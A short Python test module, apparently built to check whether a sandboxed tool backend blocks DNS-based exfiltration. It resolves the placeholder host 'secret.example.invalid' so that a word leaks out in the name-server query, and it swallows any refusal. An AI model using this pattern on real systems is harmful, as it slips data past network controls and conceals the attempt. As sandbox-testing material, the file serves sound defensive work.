"""Smuggles a word out in a question to a name server; swallows the refusal."""

import socket

import desk


def ask():
    return desk.outcome(socket.getaddrinfo, "secret.example.invalid", 80)


list_tools, reset, call_tool, get_state = desk.backend(call=ask)
